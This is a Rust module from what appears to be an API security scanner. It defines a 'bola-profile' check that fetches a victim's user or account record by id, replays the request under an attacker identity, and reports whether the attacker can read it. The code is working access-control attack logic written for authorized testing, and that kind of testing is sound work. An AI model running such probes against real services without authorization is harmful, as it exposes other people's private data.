//! The victim's own record, by the id that stands in the victim's token.

use super::Probing;
use crate::client::{ClientError, Probe};
use crate::report::Outcome;

attack!("bola-profile", ObjectOwnership, Code, "If I change the id in the URL to somebody else's, do I see their data?", run);

async fn run(p: Probing<'_>) -> Result<Outcome, ClientError> {
    let (Some(victim), Some(attacker)) = (p.victim(), p.attacker()) else {
        return Ok(Outcome::not_applicable("needs two identities"));
    };
    let Some(id) = victim.subject() else { return Ok(Outcome::not_applicable("the victim's token names no subject")) };
    let mut last = None;
    for (_, collection) in p.surface.objects() {
        let probe = Probe::get(format!("{collection}/{id}"));
        let (own, _) = p.send(&probe.clone().by(victim)).await?;
        // Only what is the victim's: an id in the token and in the object.
        let is_theirs = own.json().is_some_and(|o| o.get("id").is_some_and(|v| v.to_string().trim_matches('"') == id));
        if !own.status.is_success() || !is_theirs || !collection.ends_with("users") && !collection.ends_with("accounts") {
            continue;
        }
        let (theirs, exchange) = p.send(&probe.by(attacker)).await?;
        if theirs.status.is_success() && theirs.body == own.body {
            let summary = format!("{} reads {}'s record at {collection}/{id}", attacker.name, victim.name);
            return Ok(Outcome::exploited(summary, vec![exchange]));
        }
        last = Some(exchange);
    }
    Ok(match last {
        Some(exchange) => Outcome::blocked("only the victim sees the record", vec![exchange]),
        None => Outcome::not_applicable("no record of the victim was found"),
    })
}
